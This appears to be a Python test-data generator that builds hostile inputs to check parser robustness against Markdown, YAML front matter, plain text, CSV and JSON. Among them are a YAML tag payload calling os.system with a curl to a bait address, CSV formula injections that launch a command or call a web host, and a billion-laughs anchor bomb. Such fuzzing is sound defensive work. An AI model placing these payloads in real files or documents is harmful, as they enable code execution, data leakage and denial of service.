"""Hostile Markdown, front matter, plain text, tables and data."""

from __future__ import annotations

import json

from evals.datasets.hostile.making import WORDS, Making, kind


# -- Markdown -------------------------------------------------------------------------------------------------------
@kind("md")
def _md_quotes(make: Making) -> str:
    return ">" * make.number(100, 20_000) + " " + make.words(9)


@kind("md")
def _md_lists(make: Making) -> str:
    return "\n".join("  " * depth + "- " + make.words(3) for depth in range(make.number(20, 400)))


@kind("md")
def _md_openers(make: Making) -> str:
    opener = make.random.choice(
        ["[", "![", "[a](", "*a_", "**a ", "<", "&#", "\\", "~~", "[^1]: ", "<!--", "_a**", "<a href='"]
    )
    return opener * make.number(1_000, 30_000) + make.words(5)


@kind("md")
def _md_backticks(make: Making) -> str:
    return " ".join("`" * length for length in range(1, make.number(50, 500))) + make.words(3)


@kind("md")
def _md_wide_table(make: Making) -> str:
    wide = make.number(100, 10_000)
    return "\n".join(
        "|" + "|".join(cells) + "|" for cells in (["h"] * wide, ["-"] * wide, ["1"] * wide, [make.words(1)] * wide)
    )


@kind("md")
def _md_long_table(make: Making) -> str:
    rows = "\n".join(f"| {make.words(2)} | {row} |" for row in range(make.number(100, 4_000)))
    return f"| a | b |\n|---|---|\n{rows}\n"


@kind("md")
def _md_definitions(make: Making) -> str:
    return "\n".join(f"[{number}]: {make.bait}/{number}" for number in range(make.number(100, 3_000))) + "\n\n[1] words"


@kind("md")
def _md_html(make: Making) -> str:
    return "<table>" * make.number(10, 900) + f"<tr><td><img src='{make.bait}'>{make.words(9)}"


@kind("md")
def _md_open_fence(make: Making) -> str:
    return f"# {make.words(3)}\n\n```\n" + "\n".join(make.words(9) for _ in range(make.number(10, 3_000)))


@kind("md")
def _md_headings(make: Making) -> str:
    return "\n\n".join("#" * make.random.randint(1, 7) + " " + make.words(2) for _ in range(make.number(50, 3_000)))


# -- front matter -----------------------------------------------------------------------------------------------------
@kind("md")
def _front_laughs(make: Making) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{at}: &a{at} [{', '.join([f'*a{at - 1}'] * 9)}]" for at in range(1, make.number(6, 30))]
    return "---\n" + "\n".join(lines) + f"\n---\n{make.words(9)}"


@kind("md")
def _front_loop(make: Making) -> str:
    return f"---\ntitle: &t [*t]\nowner: &o {{o: *o}}\n---\n{make.words(9)}"


@kind("md")
def _front_object(make: Making) -> str:
    tag = make.random.choice(
        ["!!python/object/apply:os.system", "!!python/name:os.system", "!<tag:x,2000:y>", "!!binary"]
    )
    return f'---\ntitle: {tag} ["curl {make.bait}"]\n---\n{make.words(9)}'


@kind("md")
def _front_deep(make: Making) -> str:
    depth = make.number(50, 20_000)
    return f"---\ntitle: {'[' * depth}{']' * depth}\n---\n{make.words(9)}"


@kind("md")
def _front_odd(make: Making) -> str:
    value = make.random.choice(
        ["title:\n\t- x", "title: 'never closed", "? [a]: b", "title: a\ntitle: b", "level: 9999", "uri: '\\0'", "uri: ''",
         "valid_from: 9999-99-99", "replaces: [[[]]]", "title: {a: {b: c}}", "uri: " + "u" * 5_000, "groups: 7", "- a\n- b"]
    )  # fmt: skip
    return f"---\n{value}\n---\n{make.words(9)}"


# -- plain text and encodings -----------------------------------------------------------------------------------------
@kind("txt")
def _endless_word(make: Making) -> str:
    return make.random.choice(["a", "é", "1", "-", ".", "(", "合", "a1", "1.", "Art. 1"]) * make.number(10_000, 600_000)


@kind("txt")
def _endless_line(make: Making) -> str:
    return make.words(make.number(1_000, 60_000))


@kind("txt")
def _scripts(make: Making) -> str:
    signs = [
        0x202E,
        0x202D,
        0x2066,
        0x2069,
        0x200F,
        0x0300,
        0x0489,
        0xFE0F,
        0x1F468,
        0x200D,
        0x5D0,
        0x627,
        0x4E00,
        0xE0001,
    ]
    return "".join(chr(make.random.choice(signs)) + make.random.choice(WORDS) for _ in range(make.number(100, 9_000)))


@kind("txt")
def _combining(make: Making) -> str:
    return "".join(
        letter + "".join(chr(make.random.randint(0x300, 0x36F)) for _ in range(make.number(1, 3_000)))
        for letter in "zalgo ñandú"
    )


@kind("txt")
def _nuls(make: Making) -> bytes:
    return b"\x00".join(make.words(1).encode() for _ in range(make.number(5, 5_000)))


@kind("txt")
def _surrogates(make: Making) -> str:
    return "".join(chr(make.random.randint(0xD800, 0xDFFF)) + make.words(2) for _ in range(make.number(5, 2_000)))


@kind("txt")
def _noise(make: Making) -> bytes:
    return make.random.randbytes(make.number(100, 300_000))


@kind("txt")
def _wrong_encoding(make: Making) -> bytes:
    encoding = make.random.choice(
        ["utf-16-le", "utf-16-be", "utf-32-le", "cp1252", "cp037", "utf-7", "shift_jis", "koi8-r"]
    )
    return (make.words(make.number(20, 2_000))).encode(encoding, "ignore")


@kind("txt")
def _broken_utf8(make: Making) -> bytes:
    bad = [b"\xc0\x80", b"\xf8\x88\x80\x80\x80", b"\xed\xa0\x80", b"\xff\xfe", b"\x80", b"\xe2\x82"]
    return b" ".join(make.words(3).encode() + make.random.choice(bad) for _ in range(make.number(5, 2_000)))


@kind("txt")
def _line_ends(make: Making) -> str:
    ends = ["\r", "\n\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x1c"]
    return "".join(make.words(2) + make.random.choice(ends) for _ in range(make.number(10, 5_000)))


@kind("txt")
def _many_items(make: Making) -> str:
    return "\n".join(" " * (at % 60) + f"{at}. {make.words(2)}" for at in range(make.number(100, 5_000)))


@kind("txt")
def _legal_loops(make: Making) -> str:
    part = make.random.choice(
        ["derógase la ley 1, 2, 3, ", "Artículos 1, 2, 3 y ", "as amended by ", "Art. 1.- ", "(a) (b) (c) ", "key: "]
    )
    return part * make.number(100, 5_000)


# -- tables and data --------------------------------------------------------------------------------------------------
@kind("csv")
def _csv_open_quote(make: Making) -> str:
    return 'a,b\n1,"' + "\n".join(make.words(4) for _ in range(make.number(100, 8_000)))


@kind("csv")
def _csv_wide(make: Making) -> str:
    wide = make.number(100, 10_000)
    return "\n".join(",".join(f"{row}{at}" for at in range(wide)) for row in range(3))


@kind("csv")
def _csv_formulas(make: Making) -> str:
    return f'name,value\nx,"=cmd|\' /C calc\'!A0"\ny,"=WEBSERVICE(""{make.bait}"")"\nz,@SUM(1)\n'


@kind("csv")
def _csv_ragged(make: Making) -> str:
    return "\n".join(
        make.random.choice(",;\t|").join(["x"] * make.number(1, 50)) for _ in range(make.number(10, 2_000))
    )


@kind("json")
def _json_deep(make: Making) -> str:
    depth = make.number(50, 100_000)
    return make.random.choice(["[", '{"a":']) * depth + "1" + make.random.choice(["]", "}", ""]) * depth


@kind("json")
def _json_wide(make: Making) -> str:
    return json.dumps([{f"k{at}": at for at in range(make.number(100, 10_000))}] * 2)


@kind("json")
def _json_numbers(make: Making) -> str:
    return f'{{"n": {"9" * make.number(10, 200_000)}, "e": 1e{"9" * 30}, "x": NaN, "s": "\\ud800", "": ""}}'


@kind("json")
def _json_long(make: Making) -> str:
    return json.dumps({"text": make.words(make.number(100, 30_000)), "list": [make.words(1)] * make.number(10, 5_000)})


@kind("jsonl")
def _json_lines(make: Making) -> str:
    return '{"a": 1}\n' * make.number(2, 3_000) + make.random.choice(["", '{"a"', "[]", "null", "\x00", '"x"'])
